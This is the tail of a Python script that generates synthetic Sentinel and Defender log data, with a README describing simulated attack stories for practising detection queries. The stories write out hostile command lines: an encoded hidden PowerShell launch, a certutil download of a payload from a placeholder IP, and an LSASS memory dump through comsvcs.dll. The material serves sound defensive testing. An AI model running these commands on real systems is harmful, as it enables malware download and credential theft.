          f"**[{fmt_dt(w.gap[0])}, {fmt_dt(w.gap[1])})**: the whole calendar day",
          f"{fmt_dt(w.gap_day)[:10]} and the daily bin `bin_at(TimeGenerated, 1d, now())` starting",
          f"{fmt_dt(w.gap_bin)}, so both `bin(.., 1d)` and the connector ingestion charts show a zero.",
          "Secondary datetimes (process creation times, certificate dates...) may still fall in it.", "",
          "## Files", "",
          "| file | table | rows | format | time columns | bytes |", "|---|---|---:|---|---|---:|"]
    total = 0
    for f, t, n, fm, style, size in written:
        tcol = "TimeGenerated" if t.startswith("Security") else STYLE_TEXT[style]
        L.append(f"| `{f}` | {t} | {n} | {fm} | {tcol} | {size} |")
        total += size
    L += ["", f"{sum(x[2] for x in written)} rows, {total} bytes of data. `MANIFEST.tsv` lists file, table, rows and format.", ""]
    fmts = sorted({x[3] for x in written})
    L += ["Formats (docs/CLI.md's encodings):", ""]
    L += [f"- **{fm}**: {FORMAT_TEXT[fm]}." for fm in fmts]
    L += ["- Values: long/int as JSON numbers, real in the shortest form, datetimes with up to 7 fractional",
          "  digits (most keep all 7, some are whole ms or seconds; trailing zeros dropped), GUIDs lower-case;",
          "  dynamic columns (AdditionalFields, LoggedOnUsers, Owner, AlertIds...) are the JSON value itself",
          "  in json/jsonl/ndjson and JSON text in api-json, defender-json and CSV; a null string is `\"\"`, other",
          "  nulls are `null` (an empty CSV field). SecurityAlert's Entities, ExtendedProperties, Techniques... are",
          "  string columns holding JSON text, as in Sentinel.", ""]
    if fmt == "mixed":
        L += ["Two tables come in two files each (same table name, so a directory load appends them):",
              "DeviceProcessEvents (`.sentinel.jsonl` = the days before the empty day, TimeGenerated only;",
              "`.jsonl` = the days after it, Timestamp only) and DeviceNetworkEvents (`.json` = before, both",
              "columns; `.defender.json` = after, Timestamp only). TenantId, SourceSystem and Type are absent",
              "from Defender-style files too. A loader either fills a missing column with nulls (then query the",
              "whole window with `coalesce(Timestamp, TimeGenerated)`) or, as `kqlite load` does for the time",
              "columns and Type, fills it in with a note. DeviceNetworkEvents comes from two JSON formats (an",
              "array and a Defender API response), so a loader may warn about that.", ""]
    L += ["## Connectors (SecurityAlert ProductName / SecurityIncident ProviderName)", "",
          "| ProductName | alerts (distinct SystemAlertId) |", "|---|---:|"]
    for p in PRODUCTS:
        L.append(f"| {p} | {len(by_prod.get(p, ()))} |")
    L += ["", "| SecurityIncident ProviderName | incidents | rows (one per update) |", "|---|---:|---:|"]
    for p in sorted(inc_by):
        L.append(f"| {p} | {len(inc_by[p])} | {sum(1 for r in incs if r['ProviderName'] == p)} |")
    L += ["", "Connection times (for the \"data appears 15 minutes / 24 hours after connecting\" checks):", "",
          f"- Defender for IoT connected **{fmt_dt(w.iot_connected)}**; its first alert "
          f"(\"{w.iot_first['AlertName']}\") has TimeGenerated {fmt_dt(w.iot_first['TimeGenerated'])}; "
          f"no IoT alert is earlier ({len(iot)} rows in all).",
          f"- Defender for Identity connected **{fmt_dt(w.idn_connected)}**; its first alert "
          f"(\"{w.idn_first['AlertName']}\") has TimeGenerated {fmt_dt(w.idn_first['TimeGenerated'])} (about 24 h later); "
          f"no Identity alert is earlier ({len(idn)} rows in all).", ""]
    L += ["## Special cases", "",
          f"- **An alert larger than 30 KB**: SecurityAlert SystemAlertId `{big['SystemAlertId']}`",
          f"  (\"{big['AlertName']}\", {fmt_dt(big['TimeGenerated'])}): its row is {big_size} bytes in the api-json file because Entities lists",
          "  every encrypted file. The Sentinel portal drops Entities from alerts over 30 KB; this row keeps it.",
          "- **Defender for Cloud status sync**: these SystemAlertIds have several rows (one per status",
          "  change; the latest TimeGenerated holds the current Status). Some change because the Azure Sentinel",
          "  incident that contains them was set Active/Closed (bi-directional sync: alert InProgress/Resolved",
          "  a minute or two later):", ""]
    for k, v in changed.items():
        L.append(f"  - `{k}`: {' -> '.join(v)}")
    L += ["", "- **SecurityIncident rows are updates**: one row per change (New, Active, Closed) with the same",
          "  IncidentNumber/IncidentName; take `arg_max(TimeGenerated, *) by IncidentNumber` for the current state.",
          "  Owner, AlertIds (the SystemAlertIds of SecurityAlert), Labels, Comments, Tasks, AdditionalData are dynamic.",
          "", "Detection stories (what typical hunting queries find):", ""]
    L += stories(w)
    L += ["", "Indicators: C2 `" + C2_DOMAIN + "` / " + C2_IP + ", payload host " + PAYLOAD_IP + ", phish domains `"
          + PHISH_DOMAIN + "` (" + PHISH_IP + ") and `" + PHISH_DOMAIN2 + "` (" + PHISH_IP2 + "), brute-force sources "
          + BRUTE_IP + " (RDP) and " + BRUTE_IP2 + " (SSH).", "",
          "Notes:", "",
          "- EmailPostDeliveryEvents uses the documented ActionType values `Phish ZAP`, `Malware ZAP` and",
          "  `Manual remediation` (none is exactly `ZAP`: match with `has \"ZAP\"`).",
          "- Office binaries are upper-case as Windows reports them (`WINWORD.EXE`, `EXCEL.EXE`,",
          "  `OUTLOOK.EXE`): compare with `=~` / `in~`. InitiatingProcessFolderPath is lower-case, FolderPath is not.",
          "- IPv4 addresses sometimes appear IPv4-mapped (`::ffff:10.1.4.42`, type FourToSixMapping); some",
          "  connections and senders are IPv6.",
          "- Some EmailEvents Subjects hold a line break, commas and quotes, or non-ASCII text (CSV quoting, UTF-8).",
          ""]
    return "\n".join(L)


def stories(w: World) -> list[str]:
    pa, pb = w.phish_a, w.phish_b
    return [
        f"- Phish with a credential-harvesting URL to 4 users ({fmt_dt(pa['t'])}), one click from",
        "  lt-sales-221 (DeviceEvents BrowserLaunchedToOpenUrl, DeviceNetworkEvents to the phish IP), then `Phish ZAP`",
        f"  for every recipient; EmailUrlInfo rows join on NetworkMessageId `{pa['id']}`.",
        f"- A second phish wave to 5 users ({fmt_dt(pb['t'])}, NetworkMessageId `{pb['id']}`): ZAP fails",
        "  (ActionResult Error) for one mailbox and an admin removes it (`Manual remediation`).",
        f"- {fmt_dt(w.macro_t)}: Invoice_4471.docm to amelia.hart: OUTLOOK.EXE saves it, WINWORD.EXE opens it and starts",
        "  `powershell.exe -nop -w hidden -enc ...` on ws-fin-042, which contacts the C2, sets a Run key",
        "  (DeviceRegistryEvents) and is caught by AV (DeviceEvents AntivirusDetection); `Malware ZAP` follows.",
        f"- In the last day ({fmt_dt(w.excel_t)}): an undetected .xlsm to ben.okafor; EXCEL.EXE starts",
        "  `powershell.exe ... -EncodedCommand ...` on ws-fin-017 (its incident is still Active).",
        f"- {fmt_dt(w.certutil_t)}, ws-eng-103: `certutil.exe -urlcache -split -f http://198.51.100.40/files/svchost.exe ...`;",
        "  the unsigned payload in C:\\Users\\Public runs (DeviceFileCertificateInfo IsSigned false), then",
        "  `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump <lsass pid> C:\\Windows\\Temp\\lsass.dmp full`",
        "  (DeviceImageLoadEvents comsvcs.dll, DeviceEvents OpenProcessApiCall on lsass.exe, lsass.dmp created).",
        "  srv-sql-03 has the same LSASS dump by an administrator (incident closed BenignPositive).",
        f"- {fmt_dt(w.rdp_t)}, srv-rds-01: 36 LogonFailed from 203.0.113.45 within 6 minutes, then LogonSuccess for",
        "  svc-backup (Network, then RemoteInteractive), discovery commands (whoami, net group), and 7 hours later",
        "  files on srv-file-02's Finance share renamed to .locked over SMB (the >30 KB alert).",
        f"- {fmt_dt(w.ssh_t)}, web-01: 20 failed SSH logons from 198.51.100.99, no success.",
    ]


# ---------------------------------------------------------------------------


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="Generate the libkqlite sample data (synthetic, deterministic).")
    ap.add_argument("--out", required=True, type=Path, help="output directory (created if missing)")
    ap.add_argument("--seed", type=int, default=DEFAULT_SEED, help=f"random seed (default {DEFAULT_SEED})")
    ap.add_argument("--rows-per-table", type=int, default=None, metavar="N",
                    help="exactly N rows in every table (default: the bundle's sizes)")
    ap.add_argument("--now", default=None, metavar="ISO8601", help=f"reference time (default {DEFAULT_NOW})")
    ap.add_argument("--format", default="mixed", choices=FORMATS, help="file format (default mixed)")
    ap.add_argument("--schemas", type=Path, default=SCHEMA_DIR, help=argparse.SUPPRESS)
    a = ap.parse_args(argv)
    if a.rows_per_table is not None and a.rows_per_table < 1:
        ap.error("--rows-per-table must be at least 1")
    try:
        now = parse_iso(a.now or DEFAULT_NOW)
    except argparse.ArgumentTypeError as e:
        ap.error(str(e))
    schemas = load_schemas(a.schemas)
    w = generate(a.seed, now, a.rows_per_table)
    written = write_all(w, a.out, a.format, schemas)
    (a.out / "README.md").write_text(readme(w, written, a.format, a.seed, a.rows_per_table, a.now, schemas), encoding="utf-8")
    return 0


if __name__ == "__main__":
    sys.exit(main())
